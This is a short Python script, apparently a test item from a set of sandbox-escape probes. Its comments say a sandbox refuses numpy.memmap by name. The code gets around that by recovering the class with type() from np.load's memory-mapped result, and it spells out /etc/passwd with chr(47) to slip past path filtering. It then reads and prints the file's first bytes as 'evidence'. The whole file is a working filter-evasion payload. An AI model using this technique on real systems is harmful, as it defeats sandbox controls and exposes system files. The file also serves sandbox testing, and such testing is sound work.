# source: numpy docs np.load(mmap_mode="r") returns a numpy.memmap (memmap is refused by name); own type() class recovery
# family: recovering numpy.memmap from np.load(..., mmap_mode) with type() and mapping a run-time path
# goal: read /etc/passwd bytes through a memory map
import json
import numpy as np

np.save("sx347.npy", np.arange(4, dtype=np.uint8))
m = np.load("sx347.npy", mmap_mode="r")
M = type(m)
P = chr(47) + "etc" + chr(47) + "passwd"
mm = M(P, dtype=np.uint8, mode="r")
print(json.dumps({"evidence": bytes(mm[:64]).decode()}))
